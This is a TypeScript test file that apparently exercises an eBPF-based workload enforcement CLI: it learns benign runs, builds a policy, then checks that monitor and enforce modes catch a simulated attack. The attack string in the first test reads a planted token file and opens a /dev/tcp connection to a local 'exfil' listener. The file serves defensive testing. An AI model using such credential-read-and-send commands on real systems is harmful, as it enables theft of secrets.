import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { EnforcementLedgerSchema, EnforcementPolicySchema } from '@vigil/core';
import { capturePrivileges } from '@vigil/ebpf-native';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { subjectOfName } from '../src/commands/enforce-support.js';
import { runCli } from './helpers.js';

const canRun =
  process.platform === 'linux' && existsSync('/sys/kernel/btf/vmlinux') && capturePrivileges().sufficient;
const why = canRun ? undefined : 'needs Linux with BTF and root (cgroup programs and bpf_send_signal)';
if (why) console.warn(`skipping live enforce tests: ${why}`);

const dir = mkdtempSync(join(tmpdir(), 'vigil-enforce-cli-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function listen(host: string): Promise<Server & { port: number }> {
  return new Promise((resolve, reject) => {
    const s = createServer((c) => {
      c.on('error', () => {});
      c.end('ok');
    });
    s.once('error', reject);
    s.listen(0, host, () => {
      const a = s.address();
      resolve(Object.assign(s, { port: typeof a === 'object' && a ? a.port : 0 }));
    });
  });
}

describe.skipIf(why !== undefined)('vigil policy and vigil enforce on a learned workload (live)', () => {
  let api: Server & { port: number };
  let exfil: Server & { port: number };
  beforeAll(async () => {
    api = await listen('127.0.0.1');
    exfil = await listen('127.0.0.3');
  });
  afterAll(() => {
    api.close();
    exfil.close();
  });

  it('learns a workload, synthesises its policy, then lets benign runs through and stops the attack', async () => {
    const name = `enforce-live-${process.pid}`;
    // Benign work: read a file, list a folder, call "the API". The attack reads a credential with a
    // program never used, and sends it to a new peer.
    const cred = join(dir, 'token');
    writeFileSync(cred, 'secret-token\n');
    const benign = `/usr/bin/cat /etc/hostname >/dev/null; /usr/bin/ls ${dir} >/dev/null; exec 3<>/dev/tcp/127.0.0.1/${api.port} && echo API-OK`;
    const attack = `${benign}; /usr/bin/head -c 64 ${cred} >/dev/null; echo head=$?; if exec 4<>/dev/tcp/127.0.0.3/${exfil.port}; then echo EXFIL-SENT; else echo EXFIL-REFUSED; fi`;
    const runs: string[] = [];
    for (let i = 0; i < 2; i++) {
      const out = join(dir, `learn-${i}.vcap`);
      const r = await runCli(['record', '--out', out, '--name', name, '--', '/usr/bin/bash', '-c', benign]);
      expect(r.code, r.stderr).toBe(0);
      runs.push(out);
    }
    const baseline = join(dir, 'baseline.json');
    expect((await runCli(['learn', '--out', baseline, ...runs])).code).toBe(0);

    // A learning baseline is refused, with the reason.
    const refused = await runCli([
      'policy',
      '--baseline',
      baseline,
      '--name',
      name,
      '--out',
      join(dir, 'p0.json'),
    ]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(/still learning/);

    const stableBaseline = join(dir, 'baseline-stable.json');
    expect((await runCli(['learn', '--out', stableBaseline, '--mark-stable', ...runs])).code).toBe(0);
    const policyFile = join(dir, 'policy.json');
    const made = await runCli([
      'policy',
      '--baseline',
      stableBaseline,
      '--name',
      name,
      '--no-loopback',
      '--out',
      policyFile,
    ]);
    expect(made.code, made.stderr).toBe(0);
    const policy = EnforcementPolicySchema.parse(JSON.parse(readFileSync(policyFile, 'utf8')));
    expect(policy.egress.allowLoopback).toBe(false);
    expect(policy.egress.rules.map((r) => `${r.cidr}:${r.port}`)).toContain(`127.0.0.1/32:${api.port}`);
    expect(policy.exec.rules.map((r) => r.path)).toEqual(
      expect.arrayContaining(['/usr/bin/cat', '/usr/bin/ls']),
    );
    expect(policy.exec.rules.map((r) => r.path)).not.toContain('/usr/bin/head');

    // Monitor: the attack goes ahead and is reported.
    const monitored = await runCli([
      'enforce',
      '--policy',
      policyFile,
      '--name',
      name,
      '--json',
      '--',
      '/usr/bin/bash',
      '-c',
      attack,
    ]);
    expect(monitored.code, monitored.stderr).toBe(0);
    const m = JSON.parse(monitored.stdout) as {
      mode: string;
      violations: { action: string; operation: string; path?: string; daddr?: string }[];
    };
    expect(m.mode).toBe('monitor');
    expect(m.violations.map((x) => `${x.action} ${x.operation} ${x.path ?? x.daddr}`).sort()).toEqual([
      'would-block connect 127.0.0.3',
      'would-block exec /usr/bin/head',
    ]);
    expect(monitored.stderr).toMatch(/would-block connect tcp 127\.0\.0\.3/);

    // Enforce: a benign run is unhindered; the attack's new program is killed and its egress refused.
    const quiet = await runCli([
      'enforce',
      '--policy',
      policyFile,
      '--name',
      name,
      '--mode',
      'enforce',
      '--',
      '/usr/bin/bash',
      '-c',
      benign,
    ]);
    expect(quiet.code, quiet.stderr).toBe(0);
    expect(quiet.stdout).toMatch(/0 would-block, 0 blocked, 0 killed/);
    const stopped = await runCli([
      'enforce',
      '--policy',
      policyFile,
      '--name',
      name,
      '--mode',
      'enforce',
      '--',
      '/usr/bin/bash',
      '-c',
      `${attack} 2>&1`,
    ]);
    expect(stopped.stdout).toMatch(/1 blocked, 1 killed/);
    expect(stopped.stdout).toMatch(/killed exec \/usr\/bin\/head/);
    expect(stopped.stdout).toMatch(/blocked connect tcp 127\.0\.0\.3/);
  });

  it('--mode auto promotes by confidence, records the evidence, and honours a pin', async () => {
    const name = `enforce-auto-${process.pid}`;
    const benign = '/usr/bin/true';
    const out = join(dir, 'auto.vcap');
    expect(
      (await runCli(['record', '--out', out, '--name', name, '--', '/usr/bin/bash', '-c', benign])).code,
    ).toBe(0);
    const baseline = join(dir, 'auto-baseline.json');
    expect((await runCli(['learn', '--out', baseline, '--mark-stable', out])).code).toBe(0);
    const ledger = join(dir, 'ledger.json');
    // Promotion settings for the test: one monitored run, no time minimum.
    writeFileSync(
      ledger,
      JSON.stringify({
        schemaVersion: 1,
        promotion: { minMonitorMs: 0, minMonitorRuns: 2, maxWouldBlock: 0 },
        workloads: {},
      }),
    );
    const auto = () =>
      runCli([
        'enforce',
        '--baseline',
        baseline,
        '--name',
        name,
        '--mode',
        'auto',
        '--ledger',
        ledger,
        '--json',
        '--',
        '/usr/bin/bash',
        '-c',
        benign,
      ]);
    const first = await auto();
    expect(first.code, first.stderr).toBe(0);
    expect(JSON.parse(first.stdout).mode).toBe('monitor');
    expect(first.stderr).toMatch(/stays in monitor: 1 of 2 runs/);
    const second = await auto();
    expect(second.stderr).toMatch(/promotion: promoted: baseline stable, 2 monitored runs/);
    const third = await auto();
    expect(JSON.parse(third.stdout).mode).toBe('enforce');
    const state = EnforcementLedgerSchema.parse(JSON.parse(readFileSync(ledger, 'utf8'))).workloads[
      subjectOfName(name)
    ]!;
    expect(state.decisions.map((d) => d.cause)).toEqual(['initial', 'promotion']);
    expect(state.decisions[1]!.evidence).toMatchObject({
      monitoredRuns: 2,
      wouldBlock: 0,
      baselineStatus: 'stable',
    });

    const pinned = await runCli([
      'enforce',
      '--ledger',
      ledger,
      '--name',
      name,
      '--pin',
      'monitor',
      '--by',
      'alice',
      '--reason',
      'incident review',
    ]);
    expect(pinned.code, pinned.stderr).toBe(0);
    expect(JSON.parse((await auto()).stdout).mode).toBe('monitor');
    const after = EnforcementLedgerSchema.parse(JSON.parse(readFileSync(ledger, 'utf8'))).workloads[
      subjectOfName(name)
    ]!;
    expect(after.pinned).toEqual({ mode: 'monitor', by: 'alice', reason: 'incident review' });
  });

  it('refuses what it cannot do with one clear line and exit 2', async () => {
    const bad = join(dir, 'bad-policy.json');
    writeFileSync(bad, JSON.stringify({ schemaVersion: 1, id: 'x', egress: { rules: 'all' } }));
    const r = await runCli(['enforce', '--policy', bad, '--', '/usr/bin/true']);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/bad-policy\.json/);
    expect(
      (await runCli(['enforce', '--mode', 'block', '--policy', bad, '--', '/usr/bin/true'])).stderr,
    ).toMatch(/--mode takes monitor, enforce or auto/);
    expect((await runCli(['enforce', '--', '/usr/bin/true'])).stderr).toMatch(
      /exactly one of --baseline FILE and --policy FILE/,
    );
  });
});
